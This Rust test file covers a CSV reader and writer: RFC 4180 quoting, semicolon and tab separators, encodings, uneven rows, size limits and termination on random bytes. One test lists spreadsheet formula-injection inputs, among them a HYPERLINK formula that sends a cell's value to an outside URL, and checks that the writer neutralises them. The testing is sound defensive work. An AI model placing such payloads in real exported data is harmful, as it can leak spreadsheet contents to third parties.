//! Tables as text: RFC 4180 and what spreadsheets make of it, F22.

use expect_test::{Expect, expect};
use roundtable::exchange::csv::{Limits, Refusal, Separator, is_table, read, write};

#[expect(
    clippy::needless_pass_by_value,
    reason = "so that calls read as tables"
)]
fn check(text: impl AsRef<[u8]>, expected: Expect) {
    let table = read(text.as_ref(), &Limits::default()).expect("a table");
    let mut said = format!("{:?}\n", table.names);
    for row in table.rows {
        said.push_str(&format!("{}: {:?}\n", row.line, row.cells));
    }
    for problem in table.problems {
        said.push_str(&format!(
            "line {}: {:?} {:?}\n",
            problem.line, problem.what, problem.text
        ));
    }
    expected.assert_eq(&said);
}

/// RFC 4180, rules 1 to 7: quotes hold commas, line breaks and doubled quotes; each row is
/// told with the line on which it begins.
#[test]
fn quotes_hold_whatever_stands_in_them() {
    check(
        "Title,When\r\n\"A, b \"\"c\"\"\",2027\r\n\"two\r\nlines\",2028\r\nlast,2029",
        expect![[r#"
            ["Title", "When"]
            2: ["A, b \"c\"", "2027"]
            3: ["two\r\nlines", "2028"]
            5: ["last", "2029"]
        "#]],
    );
}

/// Semicolons and tabs as spreadsheets write them, a byte order mark, other line ends, a
/// line that names the separator, other encodings.
#[test]
fn what_spreadsheets_write_is_read() {
    check(
        "\u{feff}Title;When\nA, b;1,5\n",
        expect![[r#"
        ["Title", "When"]
        2: ["A, b", "1,5"]
    "#]],
    );
    check(
        "Title\tWhen\rA, b\tc; d\r",
        expect![[r#"
        ["Title", "When"]
        2: ["A, b", "c; d"]
    "#]],
    );
    check(
        "sep=;\r\nTitle;When\r\nA;2027\r\n",
        expect![[r#"
        ["Title", "When"]
        3: ["A", "2027"]
    "#]],
    );
    check(
        b"Title,Place\r\nCaf\xe9,Z\xfcrich\r\n",
        expect![[r#"
        ["Title", "Place"]
        2: ["Café", "Zürich"]
        line 1: NotUtf8 ""
    "#]],
    );
    let utf16: Vec<u8> = "\u{feff}Title\tWhen\nCafé\t2027"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    check(
        utf16,
        expect![[r#"
        ["Title", "When"]
        2: ["Café", "2027"]
    "#]],
    );
}

/// Rows that are short are filled, cells that are too many are told with their line, and
/// empty rows and columns at the end are nothing.
#[test]
fn uneven_rows_are_told() {
    check(
        "Title,When,,\n\nA\nB,2027,more\n,,,\nC,2028,,\n\"never, ends\nD,2029\n",
        expect![[r#"
            ["Title", "When"]
            3: ["A", ""]
            4: ["B", "2027"]
            6: ["C", "2028"]
            7: ["never, ends\nD,2029", ""]
            line 4: TooManyCells "more"
            line 7: Unended "never, ends\nD,2029"
        "#]],
    );
}

/// F22: what was written is read back as it was, whatever stands in it, and no cell begins
/// a formula.
#[test]
fn what_was_written_is_read_back() {
    let hostile = [
        "=1+1",
        "+1-1",
        "-5.00",
        "+41 22 730 51 11",
        "@x",
        "'=x",
        "''",
        "a,b;c\td",
        "\"quoted\"",
        "two\nlines",
        "=\"\"",
        "=HYPERLINK(\"http://example.org?\"&A1)",
        "\u{ff1d}1",
        "plain",
        "é😀",
    ];
    let mut rows = vec![vec!["Title".to_owned(), "Note".to_owned()]];
    rows.extend(
        hostile
            .iter()
            .map(|text| vec![(*text).to_owned(), (*text).to_owned()]),
    );
    for separator in [Separator::Comma, Separator::Semicolon] {
        let text = write(&rows, separator);
        let table = read(text.as_bytes(), &Limits::default()).expect("a table");
        let back: Vec<&str> = table
            .rows
            .iter()
            .flat_map(|row| row.cells.iter().map(String::as_str))
            .collect();
        let wanted: Vec<&str> = hostile.iter().flat_map(|text| [*text, *text]).collect();
        assert_eq!(back, wanted);
        for cell in text.split([',', ';', '\n', '\r', '"']) {
            let is_formula = cell.starts_with(['=', '@', '\u{ff1d}']) || cell.starts_with("+1-1");
            assert!(!is_formula || cell.is_empty(), "{cell:?} in {text}");
        }
    }
}

/// Limits hold, and what is no table is told from what is one.
#[test]
fn what_is_no_table_is_refused() {
    let limits = Limits {
        bytes: 100,
        rows: 3,
        columns: 4,
        cell_bytes: 20,
    };
    for (text, refusal) in [
        ("", Refusal::NoRows),
        ("Title,When\r\n\r\n", Refusal::NoRows),
        ("a,b\nc,\0", Refusal::NotText),
        ("a\n1\n2\n3\n4\n", Refusal::TooLarge),
        ("a,b,c,d,e\n1\n", Refusal::TooLarge),
        ("a\n123456789012345678901\n", Refusal::TooLarge),
    ] {
        assert_eq!(read(text.as_bytes(), &limits), Err(refusal), "{text:?}");
    }
    assert_eq!(read(&[b'a'; 101], &limits), Err(Refusal::TooLarge));
    for (text, expected) in [
        ("Title,When\nA,2027\n", true),
        ("Title\tWhen\nA\t2027\n", true),
        ("{\"format\":\"roundtable\",\n\"version\":1}", false),
        ("BEGIN:VCALENDAR\nVERSION:2.0\n", false),
        ("Minutes of the meeting", false),
        ("<p>a,b\nc,d", false),
        ("", false),
    ] {
        assert_eq!(is_table(text.as_bytes()), expected, "{text:?}");
    }
}

/// Any bytes end: nothing hangs, and nothing is read past its end.
#[test]
fn any_bytes_end() {
    let pieces: [&[u8]; 9] = [
        b"\"", b",", b"\r", b"\n", b";", b"\xff", b"a", b"sep=", b"'=",
    ];
    let mut seed = 7_u64;
    let mut tables = 0;
    for _ in 0..2_000 {
        let mut bytes = Vec::new();
        for _ in 0..24 {
            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
            let at = usize::try_from(seed >> 33).unwrap_or(0) % pieces.len();
            bytes.extend(pieces[at]);
        }
        if let Ok(table) = read(&bytes, &Limits::default()) {
            assert!(
                table
                    .rows
                    .iter()
                    .all(|row| row.cells.len() == table.names.len())
            );
        }
        tables += usize::from(is_table(&bytes));
    }
    assert!(tables > 0);
}
